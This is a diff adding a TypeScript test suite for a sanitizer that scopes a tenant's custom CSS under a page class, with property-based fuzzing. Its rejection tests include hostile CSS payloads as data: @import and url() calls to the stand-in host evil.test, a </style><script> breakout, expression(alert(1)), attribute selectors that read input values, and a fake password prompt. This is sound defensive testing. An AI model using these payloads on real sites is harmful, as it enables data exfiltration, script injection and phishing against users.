@@ -1,0 +1,195 @@
+import { parse, walk } from 'css-tree';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { properties } from './allowed.ts';
+import { compileCustomCss } from './custom-css.ts';
+
+const compiled = (source: string) => {
+  const { css, problems } = compileCustomCss(source);
+  expect(problems).toEqual([]);
+  return css;
+};
+
+describe('what is allowed is held below the page of the tenant', () => {
+  test.each([
+    ['h1 { color: RED }', '.document h1{color:RED}'],
+    ['.a, #b > i { margin: 0 2px }', '.document .a,.document #b>i{margin:0 2px}'],
+    [':root { padding: 1px }', '.document{padding:1px}'],
+    ['html body p { opacity: .5 }', '.document p{opacity:.5}'],
+    ['body.wide p { gap: 1rem }', '.document.wide p{gap:1rem}'],
+    ['html > body > main { gap: 1rem }', '.document>main{gap:1rem}'],
+    ['a:not(.b):hover::before { content: "" }', '.document a:not(.b):hover::before{content:""}'],
+    ['* { color: var(--color-primary) }', '.document *{color:var(--color-primary)}'],
+    ['p { width: calc(100% - 3px) }', '.document p{width:calc(100% - 3px)}'],
+    [
+      'p { background: linear-gradient(90deg, #fff, oklch(70% 0.1 200)) }',
+      '.document p{background:linear-gradient(90deg,#fff,oklch(70%0.1 200))}',
+    ],
+    [
+      '@media (min-width: 600px) and (hover: hover) { a { color: red } }',
+      '@media (min-width:600px) and (hover:hover){.document a{color:red}}',
+    ],
+    ['/* nothing */', ''],
+    ['', ''],
+  ])('%s', (source, expected) => {
+    expect(compiled(source)).toBe(expected);
+  });
+});
+
+describe('an attack is named with its line and never served', () => {
+  test.each([
+    ['an import', '@import "https://evil.test/x.css";', '@import is not allowed'],
+    ['an import in capitals', '@IMPORT url(//evil.test)', '@IMPORT is not allowed'],
+    ['an address', 'a{background:url(https://evil.test/?x)}', 'url() is not allowed'],
+    ['an address with quotes', 'a{background-image:url("//evil.test")}', 'url() is not allowed'],
+    ['an escaped address', String.raw`a{background:u\72l(//evil.test)}`, 'backslash'],
+    ['an image set', 'a{background:image-set("//evil.test" 1x)}', 'image-set() is not allowed'],
+    ['an old image set', 'a{background:-webkit-image-set("x" 1x)}', 'is not allowed'],
+    ['an image', 'a{background:image("//evil.test")}', 'image() is not allowed'],
+    ['an address of a cursor', 'a{cursor:url(x),auto}', 'url() is not allowed'],
+    ['a font', '@font-face{font-family:x;src:url(//evil.test)}', '@font-face is not allowed'],
+    ['a name space', '@namespace svg "x";', '@namespace is not allowed'],
+    ['a layer', '@layer x{a{color:red}}', '@layer is not allowed'],
+    ['a condition', '@supports (color:red){a{color:red}}', '@supports is not allowed'],
+    ['an animation', '@keyframes x{from{color:red}}', '@keyframes is not allowed'],
+    ['a page over the page', 'div{position:fixed;inset:0}', 'property “position”'],
+    ['a layer above', 'div{z-index:99}', 'property “z-index”'],
+    ['a move', 'div{transform:translateY(-100vh)}', 'property “transform”'],
+    ['a move by a margin', 'div{margin-top:-100vh}', 'Less than nothing'],
+    ['a move by a sum', 'div{margin:calc(0px - 9px)}', 'calc() is not allowed here'],
+    [
+      'a text of its own',
+      'h1::after{content:"Enter your password"}',
+      '“content” can only be empty',
+    ],
+    ['an attribute', 'h1::after{content:attr(title)}', '“content” can only be empty'],
+    ['a look into fields', 'input[value^="a"]{color:red}', 'is not allowed in a selector'],
+    ['a look at what is inside', 'form:has(input){color:red}', ':has is not allowed'],
+    ['the host', ':host{color:red}', ':host is not allowed'],
+    ['beside the page', 'body + div{color:red}', 'Nothing stands beside the page'],
+    ['beside the root', '~ div{color:red}', 'not complete'],
+    ['the root further on', 'p :root{color:red}', 'can only stand at the beginning'],
+    ['the root inside', ':is(html){color:red}', 'can only stand at the beginning'],
+    ['an expression', 'a{width:expression(alert(1))}', 'expression() is not allowed'],
+    ['a behaviour', 'a{behavior:url(x.htc)}', 'property “behavior”'],
+    ['a binding', 'a{-moz-binding:url(x)}', 'property “-moz-binding”'],
+    ['a filter', 'a{filter:progid:x(y=1)}', 'property “filter”'],
+    ['a value of its own', ':root{--color-text:red}', 'property “--color-text”'],
+    ['a foreign value', 'a{color:var(--x)}', "theme's own values"],
+    ['a fallback', 'a{color:var(--color-text,url(x))}', 'var() can only take'],
+    ['the end of the element', 'a{color:red}</style><script>alert(1)</script>', '“<”'],
+    ['a comment of markup', '<!-- a{color:red} -->', '“<”'],
+    ['importance', 'a{color:red!important}', '!important'],
+    ['a rule in a rule', 'a{b{color:red}}', 'Only “property: value”'],
+    ['the parent', 'a{&:hover{color:red}}', 'Only “property: value”'],
+    ['a foreign question', '@media (monochrome){a{color:red}}', 'media query'],
+    ['media in media', '@media print{@media print{a{color:red}}}', '@media is not allowed'],
+    ['deep brackets', `a{width:${'calc('.repeat(50)}}`, 'nested too deeply'],
+    ['too much', 'a{color:red}'.repeat(5000), 'At most 20000 characters'],
+    ['too many rules', 'a{gap:0}'.repeat(401), 'At most 400 rules'],
+  ])('%s', (_, source, sentence) => {
+    const { css, problems } = compileCustomCss(source);
+    expect(problems.join(' ')).toContain(sentence);
+    expect(css).not.toMatch(/url|import|evil|script|position|fixed|attr|password|expression|:has/i);
+    expectSafe(css);
+  });
+
+  test('what stands beside it is kept', () => {
+    const { css, problems } = compileCustomCss('a{color:red;position:fixed}\n\nb{top:0}\ni{gap:0}');
+    expect(css).toBe('.document a{color:red}\n.document i{gap:0}');
+    expect(problems.map((problem) => problem.slice(0, 7))).toEqual(['Line 1:', 'Line 3:']);
+  });
+});
+
+/** What is served, read by the parser once more: only listed properties below the page, and nothing that loads. */
+function expectSafe(css: string): void {
+  const names: string[] = [];
+  walk(parse(css), (node) => {
+    if (node.type === 'Url' || node.type === 'Raw') names.push(node.type);
+    if (node.type === 'Declaration' && !properties.has(node.property)) names.push(node.property);
+    if (node.type === 'Atrule' && node.name !== 'media') names.push(node.name);
+    if (node.type === 'Rule' && node.prelude.type === 'SelectorList') {
+      for (const selector of node.prelude.children.toArray()) {
+        const first = selector.type === 'Selector' ? selector.children.first : null;
+        if (first?.type !== 'ClassSelector' || first.name !== 'document') names.push('not scoped');
+      }
+    }
+  });
+  expect(names).toEqual([]);
+  expect(css).not.toMatch(/[\\<]/);
+}
+
+const pieces = [
+  'a',
+  '.b',
+  '#c',
+  'html',
+  'body',
+  ':root',
+  '*',
+  '&',
+  '>',
+  '+',
+  '~',
+  ' ',
+  ',',
+  ':not(',
+  ':is(',
+  '::before',
+  '[x=y]',
+  ')',
+  '{',
+  '}',
+  ';',
+  ':',
+  '(',
+  '/*',
+  '*/',
+  '"',
+  "'",
+  '\n',
+  '@media ',
+  '@import ',
+  '(min-width:1px)',
+  'color',
+  'position',
+  'margin',
+  'content',
+  'background',
+  '--x',
+  'red',
+  '-1px',
+  '0',
+  'url(',
+  'url(x)',
+  'var(--color-text)',
+  'var(--x)',
+  'calc(',
+  '!important',
+  '\\75',
+  '<',
+  'fixed',
+  '%',
+];
+
+describe('property: whatever is written', () => {
+  test.each([
+    [
+      'pieces of CSS',
+      fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((all) => all.join('')),
+    ],
+    ['any text', fc.string({ unit: 'binary', maxLength: 200 })],
+    ['any text in a rule', fc.string({ maxLength: 60 }).map((text) => `a{color:${text}}`)],
+    ['any selector', fc.string({ maxLength: 60 }).map((text) => `${text}{color:red}`)],
+  ])('%s comes out safe, and the same a second time', (_, texts) => {
+    fc.assert(
+      fc.property(texts, (source) => {
+        const { css } = compileCustomCss(source);
+        expectSafe(css);
+        const again = compileCustomCss(css.replaceAll('.document', ':root'));
+        expect(again).toEqual({ css, problems: [] });
+      }),
+      { numRuns: 1500 },
+    );
+  });
+});
